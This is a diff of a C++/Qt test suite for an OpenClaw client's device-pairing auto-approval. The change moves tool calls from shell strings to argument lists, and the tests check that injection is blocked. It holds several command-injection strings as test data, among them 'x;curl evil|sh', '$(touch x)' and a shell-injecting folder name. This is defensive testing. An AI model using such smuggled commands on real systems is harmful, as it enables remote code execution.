@@ -1,18 +1,24 @@
 // Pairing auto-approval: a gateway that answers NOT_PAIRED gets this device
-// approved through the openclaw tool, found in the tool's listing (JSON,
-// table or plain lines), and the socket connects again; the shell runner
-// that runs the tool.
+// approved through the openclaw tool, found in the tool's listing (JSON, or
+// the table as a fallback), and the socket connects again. The tool runs
+// with argument lists: hostile ids and paths never reach a shell's parser.
 #include "gateway/openclaw_device_identity.h"
 #include "gateway_timings.h"
 #include "gateway/openclaw_web_socket.h"
+#include "gateway/gateway_protocol.h"
 #include "gateway/pairing_request_parser.h"
-#include "gateway/shell_runner.h"
+#include "gateway/pairing_approver.h"
 #include "platform/keychain_manager.h"
 #include "platform/secret_backend.h"
 #include "fake_openclaw_command.h"
 #include "gateway_ws_stand_in.h"
 #include "log_capture.h"
 
+#include <QDir>
+#include <QFile>
+#include <QFileInfo>
+#include <QSignalSpy>
+#include <QTemporaryDir>
 #include <QTest>
 
 #include <qcoro/qcorotimer.h>
@@ -70,26 +76,63 @@ QString realJson(const QString &deviceId, const QString &requestId)
         .arg(deviceId, requestId);
 }
 
-// A shell runner that records every command and answers from a script.
-struct ScriptedShell {
-    QStringList commands;
-    std::function<std::optional<QString>(const QString &command)> respond;
+// A process runner that records every request and answers from a script.
+struct RecordingRunner {
+    QList<ProcessRequest> requests;
+    std::function<ProcessOutcome(const ProcessRequest &request)> respond;
 
-    ShellRunner runner()
+    ProcessRunner runner()
     {
-        return [this](QString command) { return run(this, std::move(command)); };
+        return [this](ProcessRequest request) { return run(this, std::move(request)); };
     }
-    static QCoro::Task<std::optional<QString>> run(ScriptedShell *shell, QString command)
+    static QCoro::Task<ProcessOutcome> run(RecordingRunner *runner, ProcessRequest request)
     {
-        shell->commands << command;
-        co_return shell->respond ? shell->respond(command) : std::nullopt;
+        runner->requests << request;
+        co_return runner->respond ? runner->respond(request) : ProcessOutcome{};
+    }
+    // Each request as one line: program, then arguments, "|"-separated.
+    QStringList lines() const
+    {
+        QStringList lines;
+        for (const ProcessRequest &request : requests)
+            lines << (QStringList{request.program} + request.arguments).join(QLatin1Char('|'));
+        return lines;
     }
 };
+
+ProcessOutcome printed(const QString &output, int exitCode = 0)
+{
+    ProcessOutcome outcome;
+    outcome.status = ProcessOutcome::Status::finished;
+    outcome.exitCode = exitCode;
+    outcome.standardOutput = output.toUtf8();
+    return outcome;
+}
+
+ProcessOutcome cannotStart()
+{
+    ProcessOutcome outcome;
+    outcome.status = ProcessOutcome::Status::failedToStart;
+    return outcome;
+}
+
+bool isList(const ProcessRequest &request, bool json)
+{
+    const QStringList tail = request.arguments.mid(request.arguments.indexOf(QStringLiteral("devices")));
+    return tail.value(1) == QLatin1String("list") && (tail.value(2) == QLatin1String("--json")) == json;
+}
+
+bool isApprove(const ProcessRequest &request)
+{
+    return request.arguments.contains(QStringLiteral("approve"));
+}
+
+const QString kLogin = QStringLiteral("/bin/sh|-lc|exec \"$0\" \"$@\"|");
 
 // A client and a gateway that knows only approved request ids; approving
 // `requestId` (whatever command does it) pairs the device.
 struct Rig {
-    explicit Rig(ShellRunner runner = {})
+    explicit Rig(ProcessRunner runner = {})
         : keychain(std::make_unique<KeychainManager>(std::make_unique<MemorySecretBackend>())),
           socket(keychain.get(), test::fastGatewayTimings(), std::move(runner))
     {
@@ -120,231 +163,287 @@ class TstPairingApproval : public QObject
 private Q_SLOTS:
     // --- finding the request id ---------------------------------------------
 
-    void requestIdFromTheListing_data()
+    void requestIdsFromTheJsonListing_data()
     {
         QTest::addColumn<QString>("output");
-        QTest::addColumn<QString>("expected"); // empty: none found
+        QTest::addColumn<QStringList>("expected");
+        QTest::addColumn<bool>("isListing");
         const QString shortId = kDeviceId.left(12);
 
         QTest::newRow("json array, deviceId and requestId")
             << QStringLiteral(R"([{"deviceId":"other","requestId":"r0"},{"deviceId":"%1","requestId":"r1"}])")
                    .arg(kDeviceId)
-            << QStringLiteral("r1");
-        QTest::newRow("json array, id as device and request")
-            << QStringLiteral(R"([{"id":"xx-%1-yy"}])").arg(shortId) << QStringLiteral("xx-%1-yy").arg(shortId);
+            << QStringList{QStringLiteral("r1")} << true;
         QTest::newRow("json array, deviceId and id")
-            << QStringLiteral(R"([{"deviceId":"%1","id":"r2"}])").arg(kDeviceId) << QStringLiteral("r2");
-        // The line form then takes the first word of the line naming the device.
-        QTest::newRow("json array, match without ids falls to lines")
-            << QStringLiteral(R"([{"deviceId":"%1"}])").arg(kDeviceId)
-            << QStringLiteral(R"([{"deviceId":"%1"}])").arg(kDeviceId);
-        QTest::newRow("json array, no match")
-            << QStringLiteral(R"([{"deviceId":"other","requestId":"r3"}])") << QString();
+            << QStringLiteral(R"([{"deviceId":"%1","id":"r2"}])").arg(kDeviceId) << QStringList{QStringLiteral("r2")}
+            << true;
+        QTest::newRow("a prefix of the device id names it")
+            << QStringLiteral(R"([{"deviceId":"%1","requestId":"r4"}])").arg(kDeviceId.left(20))
+            << QStringList{QStringLiteral("r4")} << true;
+        // Another device's id that merely contains our short id is not ours.
+        QTest::newRow("a device id holding ours is another device")
+            << QStringLiteral(R"([{"deviceId":"ff%1","requestId":"r5"},{"id":"xx-%1-yy"}])").arg(shortId)
+            << QStringList{} << true;
+        QTest::newRow("several of ours, in order")
+            << QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"a"},{"deviceId":"x","requestId":"b"},)"
+                              R"({"deviceId":"%1","requestId":"c"}]})")
+                   .arg(kDeviceId)
+            << QStringList{QStringLiteral("a"), QStringLiteral("c")} << true;
         QTest::newRow("json object of the 2026.9 tool")
-            << realJson(kDeviceId, QStringLiteral("req-9")) << QStringLiteral("req-9");
+            << realJson(kDeviceId, QStringLiteral("req-9")) << QStringList{QStringLiteral("req-9")} << true;
         QTest::newRow("json object, paired entries are no requests")
             << QStringLiteral(R"({"pending":[],"paired":[{"deviceId":"%1","requestId":"old"}]})").arg(kDeviceId)
-            << QString();
+            << QStringList{} << true;
         QTest::newRow("json after a warning line")
             << QStringLiteral("(node:1) Warning: something\n") + realJson(kDeviceId, QStringLiteral("req-10"))
-            << QStringLiteral("req-10");
+            << QStringList{QStringLiteral("req-10")} << true;
+        QTest::newRow("not json") << QStringLiteral("error: unknown option '--json'") << QStringList{} << false;
+    }
+
+    void requestIdsFromTheJsonListing()
+    {
+        QFETCH(QString, output);
+        QFETCH(QStringList, expected);
+        QFETCH(bool, isListing);
+        const auto found = PairingRequestParser::pendingRequestIdsFromJson(output, kDeviceId);
+        QCOMPARE(found.has_value(), isListing);
+        QCOMPARE(found.value_or(QStringList()), expected);
+    }
+
+    void requestIdFromTheTable_data()
+    {
+        QTest::addColumn<QString>("output");
+        QTest::addColumn<QString>("expected"); // empty: none found
+        const QString shortId = kDeviceId.left(12);
         QTest::newRow("table of the 2026.9 tool")
             << kRealTable << QStringLiteral("21424598-563b-4ac5-8ea8-3961d8ea7704");
         QTest::newRow("line with the short id")
             << QStringLiteral("ID DEVICE STATUS\nabc-1  other  paired\nreq-7   %1  waiting\n").arg(kDeviceId)
             << QStringLiteral("req-7");
-        QTest::newRow("capitalised pending without the short id")
-            << QStringLiteral("abc-1  other  paired\n  req-8  someone  PENDING\nreq-x pending\n")
-            << QStringLiteral("req-8");
-        QTest::newRow("the short id wins over an earlier pending line")
+        // A line that mentions pending requests but not this device is
+        // another device's (or a heading): never used.
+        QTest::newRow("pending lines of other devices")
+            << QStringLiteral("abc-1  other  paired\n  req-8  someone  PENDING\nreq-x pending\n") << QString();
+        QTest::newRow("a heading before our line")
             << QStringLiteral("Pending requests:\nreq-11 %1\n").arg(shortId) << QStringLiteral("req-11");
-        QTest::newRow("a pending line without the short id gives its first word")
-            << QStringLiteral("No pending device requests.\n") << QStringLiteral("No");
-        QTest::newRow("no line at all matches") << QStringLiteral("abc\ndef") << QString();
+        QTest::newRow("nothing pending") << QStringLiteral("No pending device requests.\n") << QString();
     }
 
-    void requestIdFromTheListing()
+    void requestIdFromTheTable()
     {
         QFETCH(QString, output);
         QFETCH(QString, expected);
-        const std::optional<QString> found = PairingRequestParser::findRequestId(output, kDeviceId);
-        QCOMPARE(found.value_or(QString()), expected);
+        QCOMPARE(PairingRequestParser::requestIdFromLines(output, kDeviceId).value_or(QString()), expected);
     }
 
-    // --- the approval, with a scripted tool ---------------------------------
+    void requestIdPattern()
+    {
+        for (const char *good : {"r1", "21424598-563b-4ac5-8ea8-3961d8ea7704", "a.b_c:d-e", "X"})
+            QVERIFY2(GatewayProtocol::isValidRequestId(QLatin1String(good)), good);
+        for (const char *bad : {"", "-rf", "--latest", "x;curl evil|sh", "a b", "it's", "$(touch x)", "a\nb", "é"})
+            QVERIFY2(!GatewayProtocol::isValidRequestId(QString::fromUtf8(bad)), bad);
+        QVERIFY(GatewayProtocol::isValidRequestId(QString(128, QLatin1Char('a'))));
+        QVERIFY(!GatewayProtocol::isValidRequestId(QString(129, QLatin1Char('a'))));
+    }
+
+    // --- the approval, with a recording runner ------------------------------
 
     void notPairedIsApprovedFromTheJsonListing()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
+        RecordingRunner runner;
+        Rig rig(runner.runner());
         QVERIFY(rig.listening);
         const QString path = QStringLiteral("/opt/oc/openclaw");
-        shell.respond = [&](const QString &command) -> std::optional<QString> {
-            if (command == path + QStringLiteral(" devices list --json 2>&1"))
-                return realJson(rig.deviceId(), QStringLiteral("req-json"));
-            if (command == path + QStringLiteral(" devices approve req-json")) {
+        runner.respond = [&](const ProcessRequest &request) {
+            if (isList(request, true))
+                return printed(realJson(rig.deviceId(), QStringLiteral("req-json")));
+            if (isApprove(request)) {
                 rig.paired = true;
-                return QStringLiteral("Approved %1 (req-json)").arg(rig.deviceId());
+                return printed(QStringLiteral("Approved %1 (req-json)").arg(rig.deviceId()));
             }
-            return std::nullopt;
+            return cannotStart();
         };
+        QSignalSpy approverStates(rig.socket.pairingApprover(), &PairingApprover::stateChanged);
         rig.socket.setOpenClawBinaryPath(path);
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::connected()));
 
-        QCOMPARE(shell.commands, QStringList({path + QStringLiteral(" devices list --json 2>&1"),
-                                              path + QStringLiteral(" devices approve req-json")}));
-        QCOMPARE(rig.log.count(QStringLiteral("Device NOT_PAIRED — attempting auto-approval...")), 1);
-        QCOMPARE(rig.log.count(QStringLiteral("Approve result: Approved %1 (req-json)").arg(rig.deviceId())), 1);
-        QCOMPARE(rig.log.countStartingWith(QStringLiteral("OC-WS reconnecting")), 0);
+        QCOMPARE(runner.lines(), QStringList({path + QStringLiteral("|devices|list|--json"),
+                                              path + QStringLiteral("|devices|approve|--|req-json")}));
+        for (const ProcessRequest &request : std::as_const(runner.requests)) {
+            QCOMPARE(request.timeoutMs, 30000);
+            QCOMPARE(request.outputCap, qint64(1 << 20));
+        }
+        QCOMPARE(approverStates.count(), 4); // listing, approving, done, and idle again once connected
+        QCOMPARE(rig.socket.pairingApprover()->state(), PairingApprover::State::idle);
         QCOMPARE(rig.gateway.connectRecords().size(), 2);
         rig.socket.disconnect();
     }
 
     void theTableListingIsUsedWhenJsonIsRefused()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
+        RecordingRunner runner;
+        Rig rig(runner.runner());
         const QString path = QStringLiteral("/opt/oc/openclaw");
         QString table = kRealTable;
-        shell.respond = [&](const QString &command) -> std::optional<QString> {
-            if (command.endsWith(QLatin1String("--json 2>&1")))
-                return QStringLiteral("error: unknown option '--json'");
-            if (command == path + QStringLiteral(" devices list 2>&1"))
-                return table;
-            if (command == path + QStringLiteral(" devices approve 21424598-563b-4ac5-8ea8-3961d8ea7704"))
+        runner.respond = [&](const ProcessRequest &request) {
+            if (isList(request, true))
+                return printed(QStringLiteral("error: unknown option '--json'"), 1);
+            if (isList(request, false))
+                return printed(table);
+            if (isApprove(request))
                 rig.paired = true;
-            return std::nullopt;
+            return printed(QString());
         };
         // The captured table, but with this client's device id.
         table.replace(QStringLiteral("7ceb7c9eea05d5"), rig.deviceId().left(14));
         rig.socket.setOpenClawBinaryPath(path);
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::connected()));
-        QCOMPARE(shell.commands.size(), 3);
-        QCOMPARE(rig.log.count(QStringLiteral("devices list: ") + table), 1);
-        QCOMPARE(rig.log.count(QStringLiteral("Approve result: <nil>")), 1);
+        QCOMPARE(runner.lines().value(2),
+                 path + QStringLiteral("|devices|approve|--|21424598-563b-4ac5-8ea8-3961d8ea7704"));
         rig.socket.disconnect();
     }
 
     void theLoginShellIsTriedWhenTheToolCannotRun()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
+        RecordingRunner runner;
+        Rig rig(runner.runner());
         const QString path = QStringLiteral("/usr/local/bin/openclaw");
-        shell.respond = [&](const QString &command) -> std::optional<QString> {
-            if (command == path + QStringLiteral(" devices list --json 2>&1"))
-                return QStringLiteral("/usr/bin/env: 'node': No such file or directory");
-            // Even with devices listed, the error text means the tool did not run.
-            if (command == path + QStringLiteral(" devices list 2>&1"))
-                return QStringLiteral("/usr/bin/env: 'node': No such file or directory\nreq-1 %1 pending")
-                    .arg(rig.deviceId());
-            if (command == QStringLiteral("/bin/sh -lc '") + path + QStringLiteral(" devices list' 2>&1"))
-                return QStringLiteral("req-login %1 pending").arg(rig.deviceId());
-            if (command == QStringLiteral("/bin/sh -lc '") + path + QStringLiteral(" devices approve req-login'")) {
-                rig.paired = true;
-                return QStringLiteral("Approved");
-            }
-            return std::nullopt;
+        runner.respond = [&](const ProcessRequest &request) {
+            if (request.program == path)
+                return printed(QStringLiteral("/usr/bin/env: 'node': No such file or directory"), 127);
+            if (isList(request, true))
+                return printed(realJson(rig.deviceId(), QStringLiteral("req-login")));
+            rig.paired = true;
+            return printed(QStringLiteral("Approved"));
         };
         rig.socket.setOpenClawBinaryPath(path);
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::connected()));
-        QCOMPARE(rig.log.count(QStringLiteral("openclaw CLI failed — node not in PATH?")), 1);
-        QCOMPARE(rig.log.count(QStringLiteral("devices list (login shell): req-login %1 pending").arg(rig.deviceId())),
-                 1);
-        QCOMPARE(shell.commands.last(),
-                 QStringLiteral("/bin/sh -lc '") + path + QStringLiteral(" devices approve req-login'"));
+        QCOMPARE(runner.lines(), QStringList({path + QStringLiteral("|devices|list|--json"),
+                                              kLogin + path + QStringLiteral("|devices|list|--json"),
+                                              kLogin + path + QStringLiteral("|devices|approve|--|req-login")}));
         rig.socket.disconnect();
     }
 
     void aToolThatNeverRunsNeedsTheUser()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
-        shell.respond = [](const QString &) -> std::optional<QString> { return std::nullopt; };
+        RecordingRunner runner;
+        Rig rig(runner.runner());
+        runner.respond = [](const ProcessRequest &) { return cannotStart(); };
         rig.socket.setOpenClawBinaryPath(QStringLiteral("/opt/oc/openclaw"));
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::error(QStringLiteral("Device not paired — approve manually"))));
-        QCOMPARE(rig.log.count(QStringLiteral("devices list: <nil>")), 1);
-        QCOMPARE(rig.log.count(QStringLiteral("devices list (login shell): <nil>")), 1);
-        QCOMPARE(rig.log.count(QStringLiteral("Auto-approval failed — openclaw requires node in PATH")), 1);
-        QCOMPARE(shell.commands.size(), 3);
+        QCOMPARE(runner.requests.size(), 2);
+        QCOMPARE(rig.socket.pairingApprover()->state(), PairingApprover::State::failed);
         QTest::qWait(100);
         QCOMPARE(rig.gateway.connectionCount(), 1);
     }
 
-    void withoutAMatchTheRequestNamedByTheGatewayOrTheDeviceIdIsApproved_data()
+    void theGatewaysHintCountsOnlyWhenTheToolListsIt_data()
     {
         QTest::addColumn<QString>("hint");
-        QTest::newRow("gateway names the request") << QStringLiteral("req-from-gateway");
-        QTest::newRow("gateway names none") << QString();
+        QTest::addColumn<QString>("listing");  // %1: this device's id
+        QTest::addColumn<QString>("approved"); // empty: nothing approved
+        const QString two = QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"first"},)"
+                                           R"({"deviceId":"%1","requestId":"hinted"}]})");
+        QTest::newRow("listed for this device") << QStringLiteral("hinted") << two << QStringLiteral("hinted");
+        QTest::newRow("not listed: the listing's own") << QStringLiteral("elsewhere") << two << QStringLiteral("first");
+        QTest::newRow("hostile hint") << QStringLiteral("x;touch /tmp/pwned") << two << QStringLiteral("first");
+        QTest::newRow("only another device pending")
+            << QStringLiteral("theirs")
+            << QStringLiteral(R"({"pending":[{"deviceId":"0000aaaa0000bbbb","requestId":"theirs"}]})") << QString();
+        QTest::newRow("nothing pending, no hint") << QString() << QStringLiteral(R"({"pending":[]})") << QString();
+        QTest::newRow("only hostile ids of ours")
+            << QString()
+            << QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"-rf"},{"deviceId":"%1","requestId":"a;b"},)"
+                              R"({"deviceId":"%1","requestId":""}]})")
+            << QString();
     }
 
-    void withoutAMatchTheRequestNamedByTheGatewayOrTheDeviceIdIsApproved()
+    void theGatewaysHintCountsOnlyWhenTheToolListsIt()
     {
         QFETCH(QString, hint);
-        ScriptedShell shell;
-        Rig rig(shell.runner());
+        QFETCH(QString, listing);
+        QFETCH(QString, approved);
+        RecordingRunner runner;
+        Rig rig(runner.runner());
         rig.gateway.setPairingRequestId(hint);
-        shell.respond = [](const QString &command) -> std::optional<QString> {
-            if (command.endsWith(QLatin1String("devices list 2>&1")))
-                return QStringLiteral("abc\ndef");
-            return std::nullopt;
+        runner.respond = [&](const ProcessRequest &request) {
+            if (isList(request, true))
+                return printed(listing.contains(QLatin1String("%1")) ? listing.arg(rig.deviceId()) : listing);
+            rig.paired = true;
+            return printed(QStringLiteral("Approved"));
         };
         rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
-        QVERIFY(rig.log.waitForPrefix(QStringLiteral("Approve result: ")));
-        QCOMPARE(shell.commands.last(),
-                 QStringLiteral("oc devices approve ") + (hint.isEmpty() ? rig.deviceId() : hint));
-        // The approval did not help: the second refusal is final.
+        if (approved.isEmpty()) {
+            QVERIFY(
+                rig.waitForState(OpenClawWSState::error(QStringLiteral("Device not paired — approve in OpenClaw"))));
+            QCOMPARE(runner.requests.size(), 1);
+        } else {
+            QVERIFY(rig.waitForState(OpenClawWSState::connected()));
+            QCOMPARE(runner.lines().last(), QStringLiteral("oc|devices|approve|--|") + approved);
+        }
+        rig.socket.disconnect();
+    }
+
+    void aFailedApprovalIsFinal()
+    {
+        RecordingRunner runner;
+        Rig rig(runner.runner());
+        runner.respond = [&](const ProcessRequest &request) {
+            if (isList(request, true))
+                return printed(realJson(rig.deviceId(), QStringLiteral("req-1")));
+            return printed(QStringLiteral("unknown request"), 1);
+        };
+        rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
+        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::error(QStringLiteral("Device not paired — approve in OpenClaw"))));
-        QCOMPARE(rig.log.count(QStringLiteral(
-                     "Device NOT_PAIRED — auto-approval already attempted. Run: openclaw devices approve")),
-                 1);
         QTest::qWait(100);
-        QCOMPARE(rig.log.countStartingWith(QStringLiteral("OC-WS reconnecting")), 0);
-        QCOMPARE(rig.gateway.connectionCount(), 2);
-        QCOMPARE(rig.socket.state(), OpenClawWSState::error(QStringLiteral("Device not paired — approve in OpenClaw")));
+        QCOMPARE(rig.gateway.connectionCount(), 1);
+        QCOMPARE(rig.socket.pairingApprover()->state(), PairingApprover::State::failed);
     }
 
     void withoutAToolPathTheDeviceStaysUnpaired()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
+        RecordingRunner runner;
+        Rig rig(runner.runner());
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::error(QStringLiteral("Device not paired"))));
-        QCOMPARE(rig.log.count(QStringLiteral("Cannot auto-approve — openclaw binary path not set")), 1);
-        QVERIFY(shell.commands.isEmpty());
+        QVERIFY(runner.requests.isEmpty());
         QTest::qWait(100);
         QCOMPARE(rig.gateway.connectionCount(), 1);
     }
 
-    void aToolPathWithASpaceIsInsertedAsItIs()
+    void aToolPathWithSpacesAndQuotesIsOneArgument()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
-        rig.socket.setOpenClawBinaryPath(QStringLiteral("/opt/my tools/openclaw"));
+        RecordingRunner runner;
+        Rig rig(runner.runner());
+        runner.respond = [](const ProcessRequest &) { return cannotStart(); };
+        const QString path = QStringLiteral("/opt/my tools/it's $(x)/openclaw");
+        rig.socket.setOpenClawBinaryPath(path);
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::error(QStringLiteral("Device not paired — approve manually"))));
-        QCOMPARE(shell.commands.value(0), QStringLiteral("/opt/my tools/openclaw devices list --json 2>&1"));
-        QCOMPARE(shell.commands.value(1), QStringLiteral("/opt/my tools/openclaw devices list 2>&1"));
-        QCOMPARE(shell.commands.value(2), QStringLiteral("/bin/sh -lc '/opt/my tools/openclaw devices list' 2>&1"));
+        QCOMPARE(runner.requests.value(0).program, path);
+        QCOMPARE(runner.requests.value(1).program, QStringLiteral("/bin/sh"));
+        // The script is fixed text; the path is a positional parameter.
+        QCOMPARE(runner.requests.value(1).arguments.value(1), QStringLiteral("exec \"$0\" \"$@\""));
+        QCOMPARE(runner.requests.value(1).arguments.value(2), path);
     }
 
     void aDeviceRemovedLaterIsApprovedAgain()
     {
-        ScriptedShell shell;
-        Rig rig(shell.runner());
+        RecordingRunner runner;
+        Rig rig(runner.runner());
         int approvals = 0;
-        shell.respond = [&](const QString &command) -> std::optional<QString> {
-            if (command.endsWith(QLatin1String("--json 2>&1")))
-                return realJson(rig.deviceId(), QStringLiteral("req-%1").arg(approvals + 1));
-            if (command.contains(QLatin1String(" devices approve req-"))) {
-                ++approvals;
-                rig.paired = true;
-            }
-            return std::nullopt;
+        runner.respond = [&](const ProcessRequest &request) {
+            if (isList(request, true))
+                return printed(realJson(rig.deviceId(), QStringLiteral("req-%1").arg(approvals + 1)));
+            ++approvals;
+            rig.paired = true;
+            return printed(QStringLiteral("Approved"));
         };
         rig.gateway.setIssueDeviceTokens(false);
         rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
@@ -355,44 +454,41 @@ private Q_SLOTS:
         // Removed in OpenClaw: the next connection is refused and approved anew.
         rig.paired = false;
         rig.gateway.dropConnections();
-        QVERIFY(rig.log.waitFor(QStringLiteral("Device NOT_PAIRED — attempting auto-approval..."), 2));
         QVERIFY(QTest::qWaitFor([&] { return approvals == 2; }, kWaitMs));
         QVERIFY(rig.waitForState(OpenClawWSState::connected()));
-        QCOMPARE(shell.commands.last(), QStringLiteral("oc devices approve req-2"));
-        QCOMPARE(rig.log.countStartingWith(QStringLiteral("Device NOT_PAIRED — auto-approval already attempted")), 0);
+        QCOMPARE(runner.lines().last(), QStringLiteral("oc|devices|approve|--|req-2"));
         rig.socket.disconnect();
     }
 
     void disconnectDuringTheApprovalStopsIt()
     {
-        struct SlowShell {
-            QStringList commands;
-            static QCoro::Task<std::optional<QString>> run(SlowShell *shell, QString command)
+        struct SlowRunner {
+            int calls = 0;
+            static QCoro::Task<ProcessOutcome> run(SlowRunner *runner, ProcessRequest)
             {
-                shell->commands << command;
+                ++runner->calls;
                 co_await QCoro::sleepFor(std::chrono::milliseconds(300));
-                co_return QStringLiteral("[]");
+                co_return printed(QStringLiteral("[]"));
             }
-        } shell;
-        Rig rig([&shell](QString command) { return SlowShell::run(&shell, std::move(command)); });
+        } slow;
+        Rig rig([&slow](ProcessRequest request) { return SlowRunner::run(&slow, std::move(request)); });
         rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
-        QVERIFY(QTest::qWaitFor([&] { return shell.commands.size() == 1; }, kWaitMs));
+        QVERIFY(QTest::qWaitFor([&] { return slow.calls == 1; }, kWaitMs));
         rig.socket.disconnect();
         QCOMPARE(rig.socket.state(), OpenClawWSState::disconnected());
         QTest::qWait(800);
-        QCOMPARE(shell.commands.size(), 1);
         QCOMPARE(rig.gateway.connectionCount(), 1);
         QCOMPARE(rig.socket.state(), OpenClawWSState::disconnected());
     }
 
-    // --- with the real shell and a fake tool --------------------------------
+    // --- real processes and a fake tool -------------------------------------
 
-    void aFakeToolApprovesThroughTheRealShell()
+    void aFakeToolApprovesThroughRealProcesses()
     {
         test::FakeOpenClawCommand tool;
         QVERIFY(tool.isValid());
-        Rig rig; // the real shell runner
+        Rig rig; // the real process runner
         tool.setJsonListOutput(realJson(rig.deviceId(), QStringLiteral("req-fake")));
         rig.gateway.setPairingCheck(
             [&](const QString &) { return tool.approvedIds().contains(QStringLiteral("req-fake")); });
@@ -401,8 +497,7 @@ private Q_SLOTS:
         QVERIFY(rig.waitForState(OpenClawWSState::connected()));
         QCOMPARE(tool.approvedIds(), QStringList({QStringLiteral("req-fake")}));
         QCOMPARE(tool.calls(),
-                 QStringList({QStringLiteral("devices list --json"), QStringLiteral("devices approve req-fake")}));
-        QCOMPARE(rig.log.count(QStringLiteral("Approve result: Approved req-fake")), 1);
+                 QStringList({QStringLiteral("devices list --json"), QStringLiteral("devices approve -- req-fake")}));
         rig.socket.disconnect();
     }
 
@@ -420,40 +515,48 @@ private Q_SLOTS:
         rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
         QVERIFY(rig.waitForState(OpenClawWSState::connected()));
         QCOMPARE(tool.approvedIds(), QStringList({requestId}));
-        QCOMPARE(rig.log.count(QStringLiteral("devices list --json: error: unknown option '--json'")), 1);
         rig.socket.disconnect();
     }
 
-    // --- runShellCommand ----------------------------------------------------
-
-    void theShellMergesAndTrimsOutput()
+    void hostileTextNeverReachesARealShell()
     {
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("echo out; echo err 1>&2; echo more"))),
-                 std::optional<QString>(QStringLiteral("out\nerr\nmore")));
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("printf '  \\n\\t hi there \\n\\n'"))),
-                 std::optional<QString>(QStringLiteral("hi there")));
-        // The exit status is not looked at.
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("echo failing; exit 3"))),
-                 std::optional<QString>(QStringLiteral("failing")));
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("printf 'caf\\303\\251 ✓'"))),
-                 std::optional<QString>(QStringLiteral("café ✓")));
-    }
-
-    void theShellGivesNothingForEmptyOrUndecodableOutput()
-    {
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("true"))), std::optional<QString>());
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("printf '  \\n '"))), std::optional<QString>());
-        QCOMPARE(QCoro::waitFor(runShellCommand(QStringLiteral("printf 'ab\\377\\376'"))), std::optional<QString>());
-    }
-
-    void theShellReadsLongOutput()
-    {
-        // More than a pipe holds: the output is read while the command runs.
-        const auto output = QCoro::waitFor(
-            runShellCommand(QStringLiteral("i=0; while [ $i -lt 20000 ]; do echo line-$i; i=$((i+1)); done")));
-        QVERIFY(output.has_value());
-        QCOMPARE(output->count(QLatin1Char('\n')), 19999);
-        QVERIFY(output->endsWith(QLatin1String("line-19999")));
+        // A tool in a folder whose name is a shell injection, reached through
+        // the real login shell (the plain attempt is made to fail), offered
+        // hostile request ids by the gateway and by its own listing.
+        QTemporaryDir scratch;
+        QVERIFY(scratch.isValid());
+        const QString marker = scratch.filePath(QStringLiteral("pwned"));
+        test::FakeOpenClawCommand tool(QStringLiteral("x' ; touch pwned; '$(id)"));
+        QVERIFY(tool.isValid());
+        RecordingRunner recorder;
+        ProcessRunner runner = [&recorder](ProcessRequest request) -> QCoro::Task<ProcessOutcome> {
+            recorder.requests << request;
+            if (request.program != QLatin1String("/bin/sh")) {
+                ProcessOutcome missing;
+                missing.status = ProcessOutcome::Status::failedToStart;
+                co_return missing;
+            }
+            co_return co_await runProcess(std::move(request));
+        };
+        Rig rig(runner);
+        const QString hostile = QStringLiteral("x;touch %1").arg(marker);
+        rig.gateway.setPairingRequestId(hostile);
+        tool.setJsonListOutput(QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"%2"},)"
+                                              R"({"deviceId":"%1","requestId":"-%3"},)"
+                                              R"({"deviceId":"%1","requestId":"req-good"}]})")
+                                   .arg(rig.deviceId(), hostile, QStringLiteral("-latest")));
+        rig.gateway.setPairingCheck(
+            [&](const QString &) { return tool.approvedIds().contains(QStringLiteral("req-good")); });
+        rig.socket.setOpenClawBinaryPath(tool.path());
+        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
+        QVERIFY2(rig.waitForState(OpenClawWSState::connected()), qPrintable(rig.socket.state().description()));
+        QCOMPARE(tool.approvedIds(), QStringList({QStringLiteral("req-good")}));
+        QCOMPARE(tool.calls(),
+                 QStringList({QStringLiteral("devices list --json"), QStringLiteral("devices approve -- req-good")}));
+        QVERIFY(!QFile::exists(marker));
+        QVERIFY(!QFile::exists(QStringLiteral("pwned")));
+        QVERIFY(!QFile::exists(QFileInfo(tool.path()).dir().filePath(QStringLiteral("pwned"))));
+        rig.socket.disconnect();
     }
 };
 
